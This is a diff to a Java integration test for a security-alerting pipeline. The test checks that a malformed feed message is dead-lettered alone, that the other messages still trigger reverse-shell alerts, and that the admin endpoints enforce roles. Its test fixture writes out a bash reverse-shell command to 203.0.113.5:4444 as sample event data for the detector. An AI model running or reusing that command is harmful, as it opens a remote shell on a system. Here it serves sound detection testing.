@@ -5,6 +5,7 @@ import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.quarkus.test.common.QuarkusTestResource;
 import io.quarkus.test.junit.QuarkusTest;
 import io.vigil.contracts.feed.EventFeed;
+import io.vigil.contracts.feed.FeedBatch;
 import io.vigil.contracts.feed.FeedEvent;
 import io.vigil.contracts.feed.FeedMessage;
 import io.vigil.testing.TestDatabase;
@@ -51,30 +52,35 @@ class PoisonFeedMessageTest {
     }
 
     @Test
-    void aMessageThatAlwaysFailsIsParkedAndTheOthersMoveOn() throws Exception {
-        String poisonTopic = EventFeed.topic("vigil-hub", "poison-1");
-        ingest.publish(poisonTopic, JSON.writeValueAsBytes(message("poison-1", "bad\u0000event-id")));
+    void aMessageThatAlwaysFailsIsParkedAloneAndTheOthersMoveOn() throws Exception {
+        String poisonTopic = EventFeed.topic("vigil-hub");
+        // The poison message shares its feed batch with good ones: only it is parked, they are detected on.
+        ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("beside-poison-1", UUID.randomUUID().toString()),
+                message("poison-1", "bad\u0000event-id"), message("beside-poison-2", UUID.randomUUID().toString()))));
         for (int i = 0; i < 20; i++) {
-            ingest.publish(EventFeed.topic("vigil-hub", "after-poison-" + i), JSON.writeValueAsBytes(message("after-poison-" + i,
-                    UUID.randomUUID().toString())));
+            ingest.publish(poisonTopic, JSON.writeValueAsBytes(FeedBatch.of(message("after-poison-" + i, UUID.randomUUID().toString()))));
         }
 
         await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
                 + " WHERE device_id LIKE 'after-poison-%' AND alert_type = 'IoT_ReverseShell'") == 20);
+        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM workspace.security_alert"
+                + " WHERE device_id LIKE 'beside-poison-%' AND alert_type = 'IoT_ReverseShell'") == 2);
         await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.dead_letter WHERE topic = ?",
                 poisonTopic) == 1);
-        Map<String, Object> parked = TestDatabase.query("SELECT id, consumer, reason, attempts FROM detection.dead_letter WHERE topic = ?",
+        Map<String, Object> parked = TestDatabase.query("SELECT id, consumer, reason, attempts, payload FROM detection.dead_letter WHERE topic = ?",
                 poisonTopic).get(0);
         assertThat(parked.get("consumer")).isEqualTo("detection-feed");
         assertThat((String) parked.get("reason")).contains("22021");
         assertThat((Integer) parked.get("attempts")).isGreaterThanOrEqualTo(5);
+        assertThat(JSON.readTree((byte[]) parked.get("payload")).path("messages")).singleElement()
+                .satisfies(alone -> assertThat(alone.path("deviceId").asText()).isEqualTo("poison-1"));
         long id = ((Number) parked.get("id")).longValue();
 
         given().auth().oauth2(TestTokens.operator()).get("/admin/dead-letters")
                 .then().statusCode(200).body("value.find { it.id == " + id + " }.topic", equalTo(poisonTopic));
         byte[] body = given().auth().oauth2(TestTokens.operator()).get("/admin/dead-letters/" + id + "/body")
                 .then().statusCode(200).header("X-Vigil-Topic", poisonTopic).extract().asByteArray();
-        assertThat(JSON.readTree(body).at("/events/0/id").asText()).isEqualTo("bad\u0000event-id");
+        assertThat(JSON.readTree(body).at("/messages/0/events/0/id").asText()).isEqualTo("bad\u0000event-id");
         given().auth().oauth2(TestTokens.reader()).get("/admin/dead-letters").then().statusCode(403);
         given().auth().oauth2(TestTokens.scopedTo(List.of(TestHub.NAME), "operator")).get("/admin/dead-letters").then().statusCode(403);
         given().auth().oauth2(TestTokens.operator()).post("/admin/dead-letters/" + id + "/replay").then().statusCode(403);
@@ -96,6 +102,6 @@ class PoisonFeedMessageTest {
         ObjectNode item = JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
                 .put("ProcessId", 4000).put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
         FeedEvent event = new FeedEvent(eventId, "ProcessCreate", "Triggered", "Security", false, at, at.toString(), List.of(item));
-        return new FeedMessage(FeedMessage.CURRENT_VERSION, TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
+        return new FeedMessage(TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
     }
 }
